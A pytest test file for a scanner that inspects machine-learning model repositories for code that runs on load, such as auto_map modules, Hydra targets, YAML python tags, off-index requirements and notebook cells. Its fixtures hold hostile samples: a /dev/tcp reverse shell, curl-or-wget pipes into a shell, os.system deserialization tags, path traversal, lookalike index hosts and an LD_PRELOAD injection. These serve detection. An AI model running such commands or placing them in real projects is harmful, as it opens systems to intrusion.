"""remote-code: every way of asking for code is found, every dangerous call is named by file and line."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
from collections.abc import Mapping
from pathlib import Path

import pytest

from scanner.checks.remote_code import CHECK
from scanner.file_check import FileVerdict
from scanner.findings import Finding, Outcome, Severity
from tests.assets import make_file_assets as assets
from tests.scanner.check_runs import context_of, findings_of

CODE = assets.dangerous_code()
CONFIG = b'{"model_type": "llama"}'
HARMLESS = assets.HARMLESS_CODE.encode()


def findings(folder: Path, files: Mapping[str, bytes]) -> list[Finding]:
    return findings_of(CHECK, assets.write_all(folder, files))


def failed(found: list[Finding], rule: str) -> list[Finding]:
    return [each for each in found if each.outcome is Outcome.FAIL and each.rule == rule]


@pytest.mark.parametrize("name", CODE)
def test_dangerous_call_is_named_with_file_and_line(name: str, tmp_path: Path) -> None:
    kind, call, source = CODE[name]
    found = failed(
        findings(tmp_path, {"config.json": assets.auto_map(), "modeling_x.py": source.encode()}), kind
    )
    line = source.count("\n") + 1
    last = found[-1]  # an alias may be reported where it is made as well
    assert (last.locations[0].path, last.locations[0].line, last.subject) == ("modeling_x.py", line, call)
    assert last.message.startswith(f"modeling_x.py line {line}: ")
    assert found[0].remediation
    assert found[0].tags


@pytest.mark.parametrize(
    ("name", "severity"),
    [
        ("plain", Severity.CRITICAL),
        ("exec", Severity.CRITICAL),
        ("decoded", Severity.CRITICAL),
        ("requests", Severity.HIGH),
        ("pickle", Severity.HIGH),
        ("open_write", Severity.HIGH),
        ("environ", Severity.LOW),
    ],
)
def test_severity_follows_the_kind(name: str, severity: Severity, tmp_path: Path) -> None:
    kind, _, source = CODE[name]
    found = failed(
        findings(tmp_path, {"config.json": assets.auto_map(), "modeling_x.py": source.encode()}), kind
    )
    assert [each.severity for each in found] == [severity]


def test_sentence_is_plain(tmp_path: Path) -> None:
    found = failed(findings(tmp_path, {"modeling_x.py": CODE["plain"][2].encode()}), "process")
    assert [each.message for each in found] == [
        "modeling_x.py line 2: calls subprocess.run, which starts a program, as soon as it is imported"
    ]


def test_harmless_model_code_fails_for_being_code_only(tmp_path: Path) -> None:
    found = findings(tmp_path, {"config.json": assets.auto_map(), "modeling_x.py": HARMLESS})
    assert [(each.outcome, each.rule, each.severity) for each in found] == [
        (Outcome.FAIL, "auto-map", Severity.HIGH),
        (Outcome.FAIL, "code-by-name", Severity.MEDIUM),
    ]


def test_script_that_nobody_loads_passes(tmp_path: Path) -> None:
    found = findings(tmp_path, {"config.json": CONFIG, "evaluate.py": HARMLESS})
    assert [each.outcome for each in found] == [Outcome.PASS]
    assert found[0].evidence


def test_model_without_code_passes(tmp_path: Path) -> None:
    assert [each.outcome for each in findings(tmp_path, {"config.json": CONFIG})] == [Outcome.PASS]


def test_tiny_model_passes(tiny_model: Path) -> None:
    assert [each.outcome for each in findings_of(CHECK, tiny_model)] == [Outcome.PASS]


def test_model_of_weights_alone_is_not_judged(tmp_path: Path) -> None:
    found = findings(tmp_path, {"model.gguf": b"GGUF"})
    assert [(each.outcome, each.rule) for each in found] == [(Outcome.NOT_RUN, "nothing-to-examine")]


def test_call_in_a_script_is_one_step_lower(tmp_path: Path) -> None:
    found = failed(
        findings(tmp_path, {"config.json": CONFIG, "train.py": CODE["plain"][2].encode()}), "process"
    )
    assert [(each.severity, "no loader reaches" in each.message) for each in found] == [(Severity.HIGH, True)]


@pytest.mark.parametrize(
    "name",
    [
        "config.json",
        "tokenizer_config.json",
        "preprocessor_config.json",
        "deep/folder/config.json",
        "odd.json",
    ],
)
def test_auto_map_is_found_in_every_json(name: str, tmp_path: Path) -> None:
    found = failed(findings(tmp_path, {name: assets.auto_map(), "modeling_x.py": HARMLESS}), "auto-map")
    assert [each.locations[0].path for each in found] == [name]
    assert {place.detail for place in found[0].locations} == {
        "key auto_map.AutoConfig",
        "key auto_map.AutoModel",
    }


def test_auto_map_of_tokenizers_with_null_is_found(tmp_path: Path) -> None:
    config = json.dumps({"auto_map": {"AutoTokenizer": [None, "tokenization_x.Fast"]}}).encode()
    found = findings(
        tmp_path, {"tokenizer_config.json": config, "tokenization_x.py": CODE["plain"][2].encode()}
    )
    assert failed(found, "auto-map")
    assert failed(found, "process")[0].severity is Severity.CRITICAL


def test_auto_map_of_what_can_be_no_class_is_an_attack(tmp_path: Path) -> None:
    files = {"config.json": assets.auto_map("modeling_x.echo hi"), "modeling_x.py": HARMLESS}
    found = failed(findings(tmp_path, files), "target")
    assert {each.severity for each in found} == {Severity.HIGH}
    assert "modeling_x.echo hi" in found[0].message


def test_auto_map_in_a_nested_object_is_found(tmp_path: Path) -> None:
    config = json.dumps({"text_config": {"auto_map": {"AutoModel": "modeling_x.Model"}}}).encode()
    assert failed(findings(tmp_path, {"config.json": config, "modeling_x.py": HARMLESS}), "auto-map")


def test_code_of_another_repository_is_unread(tmp_path: Path) -> None:
    found = findings(
        tmp_path, {"config.json": assets.auto_map("other/repo--modeling_x.Model"), "modeling_x.py": HARMLESS}
    )
    assert [each.severity for each in failed(found, "cross-repository")] == [Severity.HIGH]
    assert "was not read" in failed(found, "cross-repository")[0].message


def test_named_code_that_is_absent_is_reported(tmp_path: Path) -> None:
    assert failed(findings(tmp_path, {"config.json": assets.auto_map()}), "unresolved-code")


def test_relative_imports_are_followed(tmp_path: Path) -> None:
    files = {
        "config.json": assets.auto_map(),
        "modeling_x.py": b"from .helper import f\nfrom . import other\nfrom .package import thing\n"
        b"import plain",
        "helper.py": b"from .deeper.inner import g\n",
        "deeper/inner.py": CODE["plain"][2].encode(),
        "other.py": CODE["eval"][2].encode(),
        "package/__init__.py": b"",
        "package/thing.py": CODE["exec"][2].encode(),
        "plain.py": CODE["socket"][2].encode(),
    }
    found = findings(tmp_path, files)
    critical = {each.locations[0].path for each in found if each.severity is Severity.CRITICAL}
    assert critical == {"config.json", "deeper/inner.py", "other.py", "package/thing.py", "plain.py"}
    assert len(failed(found, "runs-dangerous-code")) == 4


def test_import_of_a_missing_file_is_reported(tmp_path: Path) -> None:
    found = failed(
        findings(tmp_path, {"config.json": assets.auto_map(), "modeling_x.py": b"from .gone import f\n"}),
        "missing-import",
    )
    assert [(each.locations[0].line, each.severity) for each in found] == [(1, Severity.LOW)]


@pytest.mark.parametrize(
    ("files", "call"),
    [
        ({"json.py": "from os import system as loads\nloads"}, "from .json import loads\nloads('x')"),
        (
            {"compat.py": "from subprocess import (run,  # here\n PIPE)"},
            "from .compat import run as r\nr('x')",
        ),
        ({"compat.py": "from subprocess import run"}, "from .compat import *\nrun('x')"),
        ({"compat.py": "import os as o"}, "from .compat import o\no.system('x')"),
        ({"compat.py": "import subprocess"}, "from . import compat as c\nc.subprocess.run('x')"),
        ({"sub/__init__.py": "from os import popen"}, "from .sub import popen\npopen('x')"),
        ({"compat.py": "from os import popen"}, "import compat\ncompat.popen('x')"),
    ],
)
def test_what_a_file_beside_hands_on_is_known(files: dict[str, str], call: str, tmp_path: Path) -> None:
    written = {name: text.encode() for name, text in files.items()}
    found = failed(findings(tmp_path, {**written, "modeling_x.py": call.encode()}), "process")
    assert ("modeling_x.py", 2) in {(each.locations[0].path, each.locations[0].line) for each in found}


def test_what_a_file_beside_hands_on_is_taken_from_there_alone(tmp_path: Path) -> None:
    files = {"compat.py": b"from subprocess import run\ndef load(): pass", "other.py": b"def run(x): pass"}
    source = b"from .compat import load\nfrom .other import run\nload()\nrun('x')"
    assert not failed(findings(tmp_path, {**files, "modeling_x.py": source}), "process")


def test_imports_in_a_circle_end(tmp_path: Path) -> None:
    files = {"modeling_x.py": b"from .modeling_y import a", "modeling_y.py": b"from .modeling_x import b"}
    assert findings(tmp_path, files)


@pytest.mark.parametrize(
    "name",
    [
        "handler.py",
        "pipeline.py",
        "modeling_x.py",
        "configuration_x.py",
        "setup.py",
        "custom_generate/generate.py",
    ],
)
def test_code_that_loaders_run_by_its_name_is_found(name: str, tmp_path: Path) -> None:
    found = findings(tmp_path, {"config.json": CONFIG, name: CODE["import_as"][2].encode()})
    assert failed(found, "code-by-name")
    assert [each.severity for each in failed(found, "process")] == [Severity.CRITICAL]


@pytest.mark.parametrize(
    "source",
    [
        b"def (:",
        b"\x00\x01",
        b"print 'python 2'",
        b"(" * 5000,
        b"a" + b".a" * 100_000,
        b"x = '" + b"\xff" * 9 + b"'",
    ],
    ids=["syntax", "null bytes", "python 2", "brackets", "deep", "not utf-8"],
)
def test_unparsable_code_fails(source: bytes, tmp_path: Path) -> None:
    found = findings(tmp_path, {"config.json": assets.auto_map(), "modeling_x.py": source})
    assert [each.severity for each in failed(found, "unreadable-code")] == [Severity.HIGH]


def test_huge_code_fails_unread(tmp_path: Path) -> None:
    found = findings(tmp_path, {"modeling_x.py": b"#" * (5 * 1024**2)})
    assert failed(found, "unreadable-code")


def test_custom_sentence_transformers_module_is_found(tmp_path: Path) -> None:
    modules = json.dumps(
        [
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "1", "type": "custom_st.Pooling"},
        ]
    ).encode()
    found = findings(tmp_path, {"modules.json": modules, "custom_st.py": CODE["plain"][2].encode()})
    assert [each.locations[0].detail for each in failed(found, "custom-module")] == ["key [1].type"]
    assert failed(found, "process")[0].severity is Severity.CRITICAL


def test_plain_sentence_transformers_modules_pass(tmp_path: Path) -> None:
    modules = json.dumps(
        [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Pooling"}]
    ).encode()
    assert [each.outcome for each in findings(tmp_path, {"modules.json": modules})] == [Outcome.PASS]


def test_custom_diffusers_pipeline_is_found(tmp_path: Path) -> None:
    index = json.dumps(
        {
            "_class_name": ["my_pipe", "MyPipeline"],
            "unet": ["my_unet", "Net"],
            "vae": ["diffusers", "AutoencoderKL"],
            "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
        }
    ).encode()
    files = {"model_index.json": index, "my_pipe.py": HARMLESS, "unet/my_unet.py": CODE["plain"][2].encode()}
    found = failed(findings(tmp_path, files), "custom-pipeline")
    assert {place.detail for place in found[0].locations} == {"key _class_name", "key unet"}
    files["unet/my_unet.py"] = CODE["plain"][2].encode()
    assert failed(findings(tmp_path, files), "process")[0].severity is Severity.CRITICAL
    assert not failed(findings(tmp_path, files), "unresolved-code")


def test_plain_diffusers_pipeline_passes(tmp_path: Path) -> None:
    index = json.dumps(
        {"_class_name": "FluxPipeline", "vae": ["diffusers", "AutoencoderKL"], "scheduler": [None, None]}
    ).encode()
    assert [each.outcome for each in findings(tmp_path, {"model_index.json": index})] == [Outcome.PASS]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("config.yaml", b"model:\n  _target_: os.system\n"),
        ("config.yaml", b"model: {'_target_': \"subprocess.run\"}\n"),
        ("config.yaml", b'model:\n  "\\x5ftarget_": builtins.eval\n'),
        ("config.json", b'{"model": [{"_target_": "os.system"}]}'),
        ("config.json", b'{"_target_": "eval"}'),
    ],
)
def test_dangerous_hydra_target_is_critical(name: str, data: bytes, tmp_path: Path) -> None:
    assert [each.severity for each in failed(findings(tmp_path, {name: data}), "target")] == [
        Severity.CRITICAL
    ]


def test_ordinary_hydra_target_passes(tmp_path: Path) -> None:
    found = findings(tmp_path, {"config.yaml": b"optimiser:\n  _target_: torch.optim.AdamW\n  lr: 1.0e-3\n"})
    assert [each.outcome for each in found] == [Outcome.PASS]


def test_hydra_target_in_the_repository_is_high(tmp_path: Path) -> None:
    files = {"config.yaml": b"_target_: net.Net\n", "net.py": HARMLESS}
    assert [each.severity for each in failed(findings(tmp_path, files), "target-local")] == [Severity.HIGH]


def test_loader_module_of_mlflow_in_the_repository_is_found(tmp_path: Path) -> None:
    files = {
        "MLmodel": b"flavors:\n  python_function:\n    loader_module: load_it\n",
        "load_it.py": CODE["plain"][2].encode(),
    }
    found = findings(tmp_path, files)
    assert failed(found, "target-local")
    assert failed(found, "process")[0].severity is Severity.CRITICAL


def test_python_tag_in_yaml_is_critical(tmp_path: Path) -> None:
    found = findings(tmp_path, {"a.yml": b"a: !!python/object/apply:os.system ['echo']\n"})
    assert [each.severity for each in failed(found, "yaml-tag")] == [Severity.CRITICAL]
    assert "os.system" in found[0].message


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("config.json", b"{"),
        ("config.json", b'{"auto_map": {}, "auto_map": {}}'),
        ("odd.json", b'{"auto_map": '),
        ("a.yaml", b"_target_: ["),
    ],
)
def test_unreadable_configuration_is_an_error(name: str, data: bytes, tmp_path: Path) -> None:
    found = findings(tmp_path, {name: data})
    assert [(each.outcome, each.rule) for each in found] == [(Outcome.ERROR, "unreadable")]
    assert name in found[0].reason


def test_broken_json_that_no_loader_reads_is_left_alone(tmp_path: Path) -> None:
    found = findings(tmp_path, {"config.json": CONFIG, "results.json": b"{not json"})
    assert [each.outcome for each in found] == [Outcome.PASS]


@pytest.mark.parametrize("name", ["kernel.so", "x.pyc", "win.dll"])
def test_compiled_code_fails(name: str, tmp_path: Path) -> None:
    assert [each.severity for each in failed(findings(tmp_path, {name: b"\x7fELF"}), "compiled-code")] == [
        Severity.HIGH
    ]


def test_requirement_from_elsewhere_is_found(tmp_path: Path) -> None:
    text = b"torch>=2\n# git+https://a comment\nevil @ git+https://example.com/evil\n"
    text += b"--extra-index-url https://example.com\nnumpy==2.0 # fine\n"
    found = failed(findings(tmp_path, {"requirements.txt": text}), "requirement")
    assert [each.locations[0].line for each in found] == [3, 4]


def test_digest_covers_paths_and_bytes(tmp_path: Path) -> None:
    def digest(folder: Path, files: Mapping[str, bytes]) -> str:
        return findings(folder, files)[0].evidence[0].sha256

    first = digest(tmp_path / "a", {"config.json": CONFIG, "a.py": b"x = 1"})
    assert first == digest(tmp_path / "b", {"config.json": b"{}", "a.py": b"x = 1"})
    assert first != digest(tmp_path / "c", {"config.json": CONFIG, "a.py": b"x = 2"})
    assert first != digest(tmp_path / "d", {"config.json": CONFIG, "b.py": b"x = 1"})


def test_evidence_lists_the_code_and_the_message_names_its_digest(tmp_path: Path) -> None:
    folder = assets.write_all(
        tmp_path / "model", {"config.json": assets.auto_map(), "modeling_x.py": HARMLESS}
    )
    context = context_of(folder)
    found = [item for item in CHECK.run(context) if isinstance(item, Finding)]
    ref = found[0].evidence[0]
    assert (
        context.evidence.get(ref.sha256).decode()
        == f"{hashlib.sha256(HARMLESS).hexdigest()}  modeling_x.py\n"
    )
    assert ref.sha256[:16] in found[0].message


def test_nothing_is_imported_or_run(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    source = f"open({str(marker)!r}, 'w').close()".encode()
    findings(tmp_path / "model", {"config.json": assets.auto_map(), "modeling_x.py": source})
    assert not marker.exists()


def test_many_calls_are_summed_up(tmp_path: Path) -> None:
    source = b"import os\n" + b"os.system('echo')\n" * 100
    found = findings(tmp_path, {"modeling_x.py": source})
    assert len(failed(found, "process")) == 30
    assert "70 more" in failed(found, "further-calls")[0].message


ATTACK, READER = FileVerdict.ATTACK, FileVerdict.NEEDS_CLASS_INSTANCE
PLAIN, UNREAD = FileVerdict.PLAIN_DATA, FileVerdict.NOT_READABLE


def verdicts(folder: Path, files: Mapping[str, bytes]) -> dict[str, FileVerdict]:
    """The worst that is said of each file by itself."""
    context = context_of(assets.write_all(folder, files))
    worst: dict[str, FileVerdict] = {}
    for entry in context.snapshot.files:
        for item in CHECK.examine_safely(context, entry):
            assert isinstance(item, Finding)
            assert item.outcome is Outcome.NOT_RUN or item.locations[0].path == entry.path
            said = CHECK.verdict_of(item)
            if said is not None:
                worst[entry.path] = max(said, worst.get(entry.path, PLAIN), key=lambda each: each.rank)
    return worst


def test_models_side_by_side_are_judged_apart(tmp_path: Path) -> None:
    files = {
        "a/config.json": assets.auto_map(),
        "a/modeling_x.py": HARMLESS,
        "b/config.json": assets.auto_map(),
        "b/modeling_x.py": b"from .helper import f",
        "b/helper.py": CODE["plain"][2].encode(),
        "c/config.json": CONFIG,
        "c/helper.py": HARMLESS,
        "d/config.json": assets.auto_map(),
        "d/modeling_x.py": b"def (",
    }
    assert verdicts(tmp_path, files) == {
        "a/config.json": READER, "a/modeling_x.py": READER,
        "b/config.json": ATTACK, "b/modeling_x.py": READER, "b/helper.py": ATTACK,
        "c/config.json": PLAIN, "c/helper.py": PLAIN,
        "d/config.json": UNREAD, "d/modeling_x.py": UNREAD,
    }  # fmt: skip


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("config.json", b'{"auto_map": {"AutoModel": "../x/evil.M"}}', ATTACK),
        ("config.json", b'{"auto_map": {"AutoModel": "gone.M"}}', UNREAD),
        ("config.json", b'{"auto_map": {"AutoModel": "a/b--gone.M"}}', UNREAD),
        ("adapter_config.json", b'{"auto_mapping": {"parent_library": "os"}}', ATTACK),
        ("adapter_config.json", b'{"auto_mapping": {"parent_library": "subprocess"}}', ATTACK),
        ("adapter_config.json", b'{"auto_mapping": {"parent_library": "transformers.models.bert"}}', PLAIN),
        ("sentence_bert_config.json", b'{"model_args": {"trust_remote_code": true}}', READER),
        ("modules.json", b'[{"path": "../../x", "type": "sentence_transformers.models.Pooling"}]', ATTACK),
        ("modules.json", b'[{"path": "1", "type": "gone.Pooling"}]', UNREAD),
        ("pytorch_model.bin.index.json", b'{"weight_map": {"a": "../../../etc/passwd"}}', ATTACK),
        ("pytorch_model.bin.index.json", b'{"weight_map": {"a": "pytorch_model-1.bin"}}', PLAIN),
        ("odd.json", b'{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["x"]}]}', ATTACK),
        ("odd.json", b'{"\\u005ftarget_": "os.system"}', ATTACK),
        ("x.yaml", b"a:\n  _target_: builtins.exec\n", ATTACK),
        ("x.yaml", b"a:\n  _target_: numpy.f2py.compile\n", ATTACK),
        ("x.yaml", b"a:\n  _target_: hydra.utils.get_method\n  path: os.system\n", ATTACK),
        ("x.yaml", b"a:\n  class_path: subprocess.Popen\n", ATTACK),
        ("x.yaml", b"a:\n  target: os.system\n  params: {}\n", ATTACK),
        ("x.yaml", b"a:\n  target: ldm.models.Diffusion\n  params: {}\n", PLAIN),
        ("x.yaml", b"a:\n  target: train.csv\n", PLAIN),
        ("x.yaml", b"a:\n  _target_: somebody.Net\n", READER),
        ("x.yaml", b"a: !apply:os.system ['x']\n", ATTACK),
        ("x.yaml", b"a: !new:speechbrain.nnet.Linear\n", PLAIN),
        ("x.yaml", b"a: !!python/object/new:os.system ['x']\n", ATTACK),
        ("x.yaml", b"a: !!python/name:torch.float32\n", READER),
        ("x.yaml", b"a: !!python/tuple [1, 2]\n", PLAIN),
        ("x.yaml", b"a: !!javax.script.ScriptEngineManager [x]\n", ATTACK),
        ("x.yaml", b"a: !ruby/object:Gem::Installer {}\n", ATTACK),
        ("MLmodel", b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n", PLAIN),
        ("MLmodel", b"flavors:\n  python_function:\n    loader_module: subprocess\n", ATTACK),
        ("MLmodel", b"flavors:\n  python_function:\n    loader_module: gone\n", UNREAD),
        ("MLmodel", b"flavors:\n  sklearn:\n    pickled_model: ../../x.pkl\n", ATTACK),
        ("x.yaml", b"a: &a [x, x]\n" + b"".join(
            b"%c: &%c [%s]\n" % (n + 1, n + 1, b", ".join([b"*%c" % n] * 9)) for n in range(97, 107)
        ), ATTACK),
        ("x.yaml", b"a: &a [x, x]\nb: *a\nc: *a\n", PLAIN),
        ("model_index.json", b'{"unet": ["os", "system"]}', ATTACK),
        ("modules.json", b'[{"path": "1", "type": "os.system"}]', ATTACK),
        ("requirements.txt", b"torch\n/tmp/evil.whl\n", ATTACK),
        ("requirements.txt", b"torch\n-e .\n./local\n", READER),
        ("kernel.so", b"\x7fELF", UNREAD),
        ("requirements.txt", b"torch\nevil @ git+https://example.com/evil\n", ATTACK),
        ("requirements.txt", b"torch\nevil @ git+https://example.com[evil\n", ATTACK),
        ("requirements.txt", b"transformers @ git+https://github.com/huggingface/transformers\n", READER),
        ("requirements.txt", b"--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n", PLAIN),
        ("requirements.txt", b"--extra-index-url http://10.0.0.1/simple\ntorch\n", ATTACK),
        ("requirements.txt", b"transfomers==4.0\n", ATTACK),
        ("requirements.txt", b"torch==2.1\nscikit_learn\ndataset\n# transfomers\nscapy\n", PLAIN),
        ("environment.yml", b"dependencies:\n  - pip:\n    - evil @ http://example.com/e.whl\n", ATTACK),
        ("pyproject.toml", b"[project]\ndependencies = ['evil @ https://example.com/e.whl']\n", ATTACK),
        ("pyproject.toml", b"[project]\ndependencies = ['torch']\n", PLAIN),
        ("run.sh", b"#!/bin/sh\npython train.py\nrm -rf /var/lib/apt/lists/*\n", PLAIN),
        ("run.sh", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", ATTACK),
        ("Dockerfile", b"RUN curl https://sh.rustup.rs | sh\n", READER),
        ("sitecustomize.py", b"import os\nos.system('x')\n", ATTACK),
        ("hubconf.py", b"dependencies = ['torch']\n", READER),
        ("a.ipynb", b'{"cells": [{"cell_type": "code", "source": ["a = 1\\n", "!pip list"]}]}', PLAIN),
        ("a.ipynb", b'{"cells": [{"cell_type": "code", "source": "exec(bytes.fromhex(\'00\'))"}]}', ATTACK),
        ("train.py", b"import subprocess\ndef f(): subprocess.run(['x'])\n", READER),
        ("train.py", b"import torch\nprint(torch.ones(1))\n", PLAIN),
        ("notes.txt", b"os.system('x')", None),
        ("tokenizer.json", b"{", None),
    ],
)  # fmt: skip
def test_verdict_of_one_file(name: str, data: bytes, expected: FileVerdict | None, tmp_path: Path) -> None:
    assert verdicts(tmp_path, {name: data}).get(name) is expected


def test_code_of_another_repository_is_read_where_it_lies_beside(tmp_path: Path) -> None:
    files = {
        "mine/config.json": assets.auto_map("other/repo--modeling_y.Model"),
        "other/repo/modeling_y.py": CODE["plain"][2].encode(),
    }
    assert verdicts(tmp_path, files)["mine/config.json"] is ATTACK
    files["other/repo/modeling_y.py"] = HARMLESS
    assert verdicts(tmp_path / "again", files)["mine/config.json"] is READER


def test_folder_of_code_of_mlflow_is_read(tmp_path: Path) -> None:
    files = {
        "m/MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc\n    code: code\n",
        "m/code/anything.py": CODE["plain"][2].encode(),
    }
    assert verdicts(tmp_path, files) == {"m/MLmodel": ATTACK, "m/code/anything.py": ATTACK}


@pytest.mark.parametrize(("target", "expected"), [("os.system", ATTACK), ("nemo.collections.asr.X", PLAIN)])
@pytest.mark.parametrize("mode", ["w", "w:gz"])
def test_configuration_inside_a_nemo_archive_is_read(
    mode: str, target: str, expected: FileVerdict, tmp_path: Path
) -> None:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode=mode) as archive:  # type: ignore[call-overload]
        for name, text in (
            ("./weights.ckpt", b"PK"),
            ("./model_config.yaml", f"_target_: {target}".encode()),
        ):
            member = tarfile.TarInfo(name)
            member.size = len(text)
            archive.addfile(member, io.BytesIO(text))
    assert verdicts(tmp_path, {"m.nemo": data.getvalue()}) == {"m.nemo": expected}


def test_nemo_archive_that_is_none_is_not_readable(tmp_path: Path) -> None:
    assert verdicts(tmp_path, {"m.nemo": b"no archive"}) == {"m.nemo": UNREAD}


@pytest.mark.parametrize(
    "target",
    ["nemo.utils.os.system", "torch.serialization.os.system", "builtins.__import__", "nemo.x.subprocess.run"],
)
def test_name_that_leads_through_a_known_package_is_an_attack(target: str, tmp_path: Path) -> None:
    found = findings(tmp_path, {"config.yaml": f"a:\n  _target_: {target}\n".encode()})
    assert [CHECK.verdict_of(each) for each in found] == [FileVerdict.ATTACK]


def test_target_put_together_from_other_values_is_not_readable(tmp_path: Path) -> None:
    found = findings(tmp_path, {"config.yaml": b"a:\n  _target_: ${x}\nx: os.system\n"})
    assert [CHECK.verdict_of(each) for each in found] == [FileVerdict.NOT_READABLE]


@pytest.mark.parametrize("loader", ["mlflow.sklearn", "mlflow.transformers", "mlflow.pyfunc.model"])
def test_loaders_of_mlflow_itself_pass(loader: str, tmp_path: Path) -> None:
    text = f"flavors:\n  python_function:\n    loader_module: {loader}\n  x:\n    code: null\n"
    assert [each.outcome for each in findings(tmp_path, {"MLmodel": text.encode()})] == [Outcome.PASS]


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url https://download.pytorch.org/whl/cu118",
        "--index-url https://pypi.org/simple",
        "-f https://download.pytorch.org/whl/torch_stable.html",
    ],
)
def test_indexes_of_the_makers_pass(line: str, tmp_path: Path) -> None:
    found = findings(tmp_path, {"requirements.txt": f"{line}\ntorch\n".encode()})
    assert [each.outcome for each in found] == [Outcome.PASS]


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://pypi.org@evil.example/simple",
        "--index-url http://pypi.org/simple",
        "--extra-index-url https://download.pytorch.org.evil.example/whl",
    ],
)
def test_address_that_looks_like_an_index_of_the_makers_fails(line: str, tmp_path: Path) -> None:
    assert failed(findings(tmp_path, {"requirements.txt": f"{line}\ntorch\n".encode()}), "requirement")


@pytest.mark.parametrize(
    "cell", ["!curl http://x.example/a.sh | sh", "%%bash\nwget http://x.example/a -O- | bash"]
)
def test_notebook_that_pipes_unprotected_text_into_a_shell_is_an_attack(cell: str, tmp_path: Path) -> None:
    book = json.dumps({"cells": [{"cell_type": "code", "source": [cell]}]}).encode()
    found = findings(tmp_path, {"demo.ipynb": book})
    assert FileVerdict.ATTACK in {CHECK.verdict_of(each) for each in found}


def test_notebook_that_installs_by_a_script_of_its_makers_is_to_be_read(tmp_path: Path) -> None:
    source = ["!curl -fsSL https://ollama.com/install.sh | sh"]
    book = json.dumps({"cells": [{"cell_type": "code", "source": source}]}).encode()
    found = findings(tmp_path, {"demo.ipynb": book})
    assert {CHECK.verdict_of(each) for each in found} == {FileVerdict.NEEDS_CLASS_INSTANCE}


def test_library_loaded_into_every_program_is_an_attack(tmp_path: Path) -> None:
    source = b"import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\n"
    found = findings(tmp_path, {"config.json": assets.auto_map(), "modeling_x.py": source})
    assert failed(found, "persistence")


def test_class_that_derives_from_a_program_starter_is_an_attack(tmp_path: Path) -> None:
    source = b"import subprocess\nclass P(subprocess.Popen):\n    pass\nP('x')\n"
    found = findings(tmp_path, {"config.json": assets.auto_map(), "modeling_x.py": source})
    assert failed(found, "process")
    honest = b"import subprocess\nclass E(subprocess.CalledProcessError):\n    pass\n"
    found = findings(tmp_path / "b", {"config.json": assets.auto_map(), "modeling_x.py": honest})
    assert not failed(found, "process")
